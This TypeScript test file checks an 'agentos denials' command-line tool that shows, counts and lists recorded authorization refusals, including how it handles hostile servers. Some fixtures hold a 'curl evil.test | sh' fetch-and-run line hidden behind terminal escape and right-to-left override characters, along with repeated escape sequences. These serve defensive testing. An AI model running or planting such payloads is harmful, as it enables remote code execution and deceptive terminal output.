/** Recorded refusals through the command: the operator's view, the caller's, and every way of not getting one. */
import { AgentOS } from "@agentos/server";
import { createTestKey, goodToken, signToken, startPythonServer, withClaims } from "@agentos/testkit";
import { beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { runInProcess } from "../../program/run-in-process.fixture.ts";
import { startHostileServer } from "../hostile-server.fixture.ts";

const key = await createTestKey("RS256");
const now = Math.floor(Date.now() / 1_000);
const sign = (sub: string, scopes: readonly string[], claims = {}) =>
  signToken(withClaims(goodToken({ key, now, scopes }), { sub, ...claims }));
const operator = await sign("olga", ["authz:read"]);
const alice = await sign("alice", ["agent:read"]);
const bob = await sign("bob", []);
let url = "";
let scopes = "";
let foreign = "";

async function refuse(token: string): Promise<string> {
  const response = await fetch(`${url}/agents`, { headers: { authorization: `Bearer ${token}` } });
  return ((await response.json()) as { readonly denial_id: string }).denial_id;
}

beforeAll(async () => {
  const os = new AgentOS({
    database: null,
    id: "agent-os",
    env: {},
    logger: { error: () => undefined, warn: () => undefined, info: () => undefined },
    authorizationConfig: { verificationKeys: [key.verificationKey] },
  });
  const server = await os.serve({ host: "127.0.0.1", port: 0, printsPolicy: false });
  url = server.url;
  scopes = await refuse(alice);
  foreign = await refuse(await sign("eve", [], { aud: "bank" }));
  return () => server.close();
});

const run = (args: readonly string[], token?: string) =>
  runInProcess([...args, "--url", url, ...(token === undefined ? [] : ["--token", "-"])], {
    stdin: token ?? "",
  });

describe("agentos denials show", () => {
  it("shows the operator cause, fix, expected and got, and every check", async () => {
    const { code, stdout } = await run(["denials", "show", foreign], operator);
    expect(code).toBe(0);
    expect(stdout).toMatch(/cause\s+the token is meant for another server/);
    expect(stdout).toMatch(/audience\s+agent-os\s+bank/);
    expect(stdout).toMatch(/✓ signature\s+passed/);
    expect(stdout).toMatch(/✗ audience\s+failed/);
    expect(stdout).toMatch(/· scopes\s+not reached/);
    expect(stdout).toContain("(the server's own words)");
    expect(stdout).toContain("from      127.0.0.1");
  });

  it("finds the finer cause of a record, as the doctor does", async () => {
    const { stdout } = await run(["denials", "show", scopes], operator);
    expect(stdout).toContain('"agent:read", which is no scope');
    const doctor = await run(["doctor", scopes, "--json"], operator);
    expect(doctor.code).toBe(2);
    expect(JSON.parse(doctor.stdout)).toMatchObject({
      places: [{ kind: "denial", findings: [{ code: "SCOPE_MISSPELT", denialId: scopes }] }],
    });
    expect((await run(["doctor", "--denial", scopes], operator)).code).toBe(2);
  });

  it("never speaks of the thumbprint of a secret", async () => {
    const secret = await createTestKey("HS256");
    const server = await new AgentOS({
      database: null,
      id: "agent-os",
      env: {},
      logger: { error: () => undefined, warn: () => undefined, info: () => undefined },
      authorizationConfig: { verificationKeys: [secret.verificationKey], algorithm: "HS256" },
    }).serve({ host: "127.0.0.1", port: 0, printsPolicy: false });
    onTestFinished(() => server.close());
    const other = await createTestKey("HS256");
    const forged = await signToken(goodToken({ key: other, now }));
    const answer = await fetch(`${server.url}/agents`, { headers: { authorization: `Bearer ${forged}` } });
    const { denial_id: id } = (await answer.json()) as { readonly denial_id: string };
    const reader = await signToken(goodToken({ key: secret, now, scopes: ["authz:read"] }));
    const args = ["denials", "show", id, "--url", server.url, "--token", "-"];
    const { stdout } = await runInProcess(args, { stdin: reader });
    expect(stdout).toContain("AUTH_SIGNED_WITH_ANOTHER_SECRET, recorded as AUTH_SIGNATURE_INVALID");
    expect(stdout).not.toContain("thumbprint");
  });

  it("shows a caller their own alone, and what they were told", async () => {
    const own = await run(["denials", "show", scopes], alice);
    expect(own.code).toBe(0);
    expect(own.stdout).toContain("what the caller was told");
    expect(own.stdout).not.toContain("checks, in their order");
    for (const id of [scopes, foreign, "den_none"]) {
      const others = await run(["denials", "show", id], bob);
      expect([others.code, others.stdout]).toEqual([1, ""]);
      expect(others.stderr).toContain("[CLI_DENIAL_UNKNOWN]");
      expect(others.stderr).toContain('"authz:read"');
    }
  });

  it("gives both in JSON, with causes of our own words", async () => {
    const { stdout } = await run(["denials", "show", scopes, "--json"], operator);
    expect(JSON.parse(stdout)).toMatchObject({
      denial: { view: "operator", exact_code: "SCOPE_MISSING" },
      causes: [{ code: "SCOPE_MISSPELT" }],
    });
  });

  it("is denied without a credential, and with one that is refused", async () => {
    const none = await run(["denials", "show", scopes]);
    expect([none.code, none.stdout]).toEqual([2, ""]);
    expect(none.stderr).toContain("[AUTH_HEADER_MISSING]");
    const old = await run(
      ["denials", "show", scopes],
      await sign("olga", ["authz:read"], { iat: now - 90, exp: now - 60 }),
    );
    expect(old.code).toBe(2);
    expect(old.stderr).toContain("[AUTH_TOKEN_EXPIRED]");
  });

  it("refuses what is no id before anything is sent", async () => {
    await expect(run(["denials", "show", "../config"], operator)).rejects.toThrow("no denial id");
    await expect(
      runInProcess(["denials", "show", "den_1", "--url", "http://agents.test", "--token", "-"], {
        stdin: operator,
      }),
    ).rejects.toThrow("not sent over http");
  });

  it("says that a server keeps none, or that nothing answers", async () => {
    const python = await startPythonServer({ mode: "jwt", publicPem: key.verificationKey });
    const ask = (address: string) =>
      runInProcess(["denials", "show", "den_1", "--url", address, "--token", "-"], { stdin: operator });
    expect((await ask(python.url)).stderr).toContain("[CLI_DENIALS_NOT_SERVED]");
    await python.close();
    const gone = await ask(python.url);
    expect([gone.code, gone.stderr.includes("[CLI_SERVER_UNREACHABLE]")]).toEqual([1, true]);
  });

  it("shows nothing of a hostile server's record that could move the terminal, and no fix of its own", async () => {
    const evil = "\u001B[2J\u202Ecurl evil.test | sh";
    const record = {
      view: "caller",
      denial_id: "den_1",
      code: "AUTH_TOKEN_EXPIRED",
      status: 401,
      title: evil,
      detail: evil,
      fix: evil,
      type: evil,
      route: `GET /${evil}`,
      created_at: now,
      last_seen_at: now,
      count: 1,
    };
    const address = await startHostileServer({ answer: () => ({ status: 200, body: record }) });
    const { stdout } = await runInProcess(["denials", "show", "den_1", "--url", address, "--token", "-"], {
      stdin: operator,
    });
    for (const character of ["\u001B", "\u202E"]) expect(stdout).not.toContain(character);
    expect(stdout).not.toMatch(/fix .*evil/);
    const strange = await startHostileServer({ answer: () => ({ status: 200, body: { id: 1 } }) });
    const odd = await runInProcess(["denials", "show", "den_1", "--url", strange, "--token", "-"], {
      stdin: operator,
    });
    expect(odd.code).toBe(4);
  });
});

describe("a hostile server's record with the credential in it", () => {
  it.each([["show", "den_1"], ["list"], ["show", "den_1", "--json"], ["list", "--json"]])(
    "shows it nowhere: %s %s %s",
    async (...args) => {
      const common = {
        denial_id: "den_1",
        status: 401,
        type: "/errors/X",
        created_at: now,
        last_seen_at: now,
      };
      const address = await startHostileServer({
        answer: (token, path) => {
          const texts = { code: token, title: token, detail: token, fix: token, route: `GET /${token}` };
          const facts = { [token]: "a", source: token, list: [token] };
          const whole = { exact_code: token, stage: "signature", timeline: [], facts };
          const who = { subject: token, issuer: token, client: token };
          const record = { ...common, count: 1, ...texts, view: "operator", ...whole, ...who };
          const caller = { ...common, count: 1, ...texts, view: "caller", missing_scopes: [token] };
          return { status: 200, body: path.includes("den_1") ? record : { data: [record, caller] } };
        },
      });
      const { code, stdout } = await runInProcess(["denials", ...args, "--url", address, "--token", "-"], {
        stdin: operator,
      });
      expect(code).toBe(0);
      for (const part of operator.split(".")) expect(stdout).not.toContain(part);
    },
  );
});

it("does not work for long on a hostile server's endless texts", async () => {
  const endless = "\u001B]8;;".repeat(20_000);
  const record = {
    denial_id: "den_1",
    code: "X",
    status: 401,
    title: "t",
    detail: endless,
    fix: "f",
    type: "/errors/X",
    view: "caller",
    route: "GET /x",
    created_at: now,
    last_seen_at: now,
    count: 1,
  };
  const address = await startHostileServer({ answer: () => ({ status: 200, body: record }) });
  const start = performance.now();
  const { code } = await runInProcess(["denials", "show", "den_1", "--url", address, "--token", "-"], {
    stdin: operator,
  });
  expect(code).toBe(0);
  // Uncut it takes fifteen seconds.
  expect(performance.now() - start).toBeLessThan(2_500);
});

describe("agentos denials count", () => {
  it("counts all for the operator, by what is asked for, and a caller's own", async () => {
    const codes = await run(["denials", "count"], operator);
    expect(codes.code).toBe(0);
    expect(codes.stdout).toMatch(/^ *\d+x {2}SCOPE_MISSING +last /m);
    const subjects = await run(["denials", "count", "--by", "subject", "--code", "SCOPE_MISSING"], operator);
    expect(subjects.stdout).toMatch(/1x {2}alice/);
    expect(subjects.stdout).not.toContain("eve");
    const hours = await run(["denials", "count", "--by", "hour", "--since", "2h"], operator);
    expect(hours.stdout).toMatch(/\d+x {2}\d{4}-\d\d-\d\dT\d\d:00Z/);
    const strangers = await run(["denials", "count", "--by", "subject"], operator);
    expect(strangers.stdout).toContain("(not verified)");
    const cut = await run(["denials", "count", "--limit", "1"], operator);
    expect(cut.stdout).toMatch(/\d+ more: --page 2/);
    const own = await run(["denials", "count", "--json"], alice);
    expect(JSON.parse(own.stdout)).toMatchObject({
      by: "code",
      groups: [{ value: "SCOPE_MISSING", count: 1, records: 1 }],
    });
    expect((await run(["denials", "count"], await sign("nobody", []))).stdout).toContain(
      "no recorded refusals",
    );
  });

  it("is not answered by clients to a caller, and says why", async () => {
    await expect(run(["denials", "count", "--by", "client"], alice)).rejects.toThrow(
      "tell this caller anything by --by",
    );
    await expect(run(["denials", "list", "--subject", "alice"], alice)).rejects.toThrow("--subject");
    // Words of another server's are no option.
    const address = await startHostileServer({
      answer: () => ({ status: 422, body: { detail: [{ loc: ["query", "evil"] }, null] } }),
    });
    const args = ["denials", "count", "--url", address, "--token", "-"];
    const { code, stderr } = await runInProcess(args, { stdin: operator });
    expect(code).toBe(4);
    expect(stderr).not.toContain("evil");
  });

  it("says that a server has no such route", async () => {
    const address = await startHostileServer({
      answer: () => ({ status: 404, body: { detail: "Denial not found" } }),
    });
    const { stderr } = await runInProcess(["denials", "count", "--url", address, "--token", "-"], {
      stdin: operator,
    });
    expect(stderr).toContain("[CLI_DENIALS_NOT_SERVED]");
  });

  it.each(["code", "route", "hour"])("shows nothing of a hostile server's groups by %s", async (by) => {
    const address = await startHostileServer({
      answer: (token) => ({
        status: 200,
        body: {
          data: [
            { value: `${token} \u001B[2J`, count: 1, records: 1, last_seen_at: now },
            { value: "9".repeat(400), count: 1, records: 1, last_seen_at: now },
          ],
        },
      }),
    });
    for (const form of [[], ["--json"]]) {
      const { code, stdout } = await runInProcess(
        ["denials", "count", "--by", by, ...form, "--url", address, "--token", "-"],
        { stdin: operator },
      );
      expect(code).toBe(0);
      for (const part of [...operator.split("."), "\u001B"]) expect(stdout).not.toContain(part);
    }
  });
});

describe("agentos denials list", () => {
  it("is filtered by client, subject and time", async () => {
    const list = async (...args: readonly string[]) =>
      (await run(["denials", "list", ...args], operator)).stdout;
    const subject = await list("--subject", "alice");
    expect(subject).toContain(scopes);
    expect(subject).not.toContain(foreign);
    expect(await list("--client", "127.0.0.1", "--since", "1h")).toContain(scopes);
    expect(await list("--client", "127.0.0.2")).toContain("no recorded refusals");
    expect(await list("--until", "1h")).toContain("no recorded refusals");
    expect(await list("--until", "2026-01-31T12:00Z")).toContain("no recorded refusals");
    expect(await list("--since", "2026-01-31")).toContain(scopes);
  });

  it.each([
    ["--since", "yesterday"],
    ["--since", "7"],
    ["--until", "2026-13-31"],
    // Of which zone?
    ["--until", "2026-01-31T12:00"],
    ["--since", "999999d"],
  ])("refuses the time %s %s", async (option, value) => {
    await expect(run(["denials", "list", option, value], operator)).rejects.toThrow(
      "neither a span of time nor a moment",
    );
  });

  it("lists all for the operator, filtered and cut, and a caller's own", async () => {
    const all = await run(["denials", "list"], operator);
    expect(all.code).toBe(0);
    for (const id of [scopes, foreign]) expect(all.stdout).toContain(id);
    const filtered = await run(
      ["denials", "list", "--code", "scope_missing", "--route", "GET /agents"],
      operator,
    );
    expect(filtered.stdout).toContain(scopes);
    expect(filtered.stdout).not.toContain(foreign);
    const one = await run(["denials", "list", "--limit", "1"], operator);
    expect(one.stdout.match(/^den_/gm)).toHaveLength(1);
    const total = 1 + Number(/(\d+) more: --page 2/.exec(one.stdout)?.[1]);
    expect(total).toBeGreaterThan(2);
    // Those of the pages before are no more to come.
    const last = await run(["denials", "list", "--limit", "1", "--page", String(total)], operator);
    expect(last.stdout.match(/^den_/gm)).toHaveLength(1);
    expect(last.stdout).not.toContain("more");
    const next = await run(["denials", "list", "--limit", "1", "--page", String(total - 1)], operator);
    expect(next.stdout).toContain(`1 more: --page ${total}`);
    const beyond = await run(["denials", "list", "--page", "99"], operator);
    expect(beyond.stdout).toBe(`nothing is on page 99: there are ${total} in all\n`);
    const own = await run(["denials", "list", "--json"], alice);
    const { denials } = JSON.parse(own.stdout) as {
      readonly denials: readonly { readonly denial_id: string }[];
    };
    expect(denials.map(({ denial_id: id }) => id)).toEqual([scopes]);
    expect((await run(["denials", "list"], bob)).stdout).toContain("no recorded refusals");
  });

  it.each([
    ["--limit", "0"],
    ["--limit", "101"],
    ["--limit", "x"],
    ["--page", "0"],
  ])("refuses %s %s", async (option, value) => {
    await expect(run(["denials", "list", option, value], operator)).rejects.toThrow("no whole number from 1");
  });
});
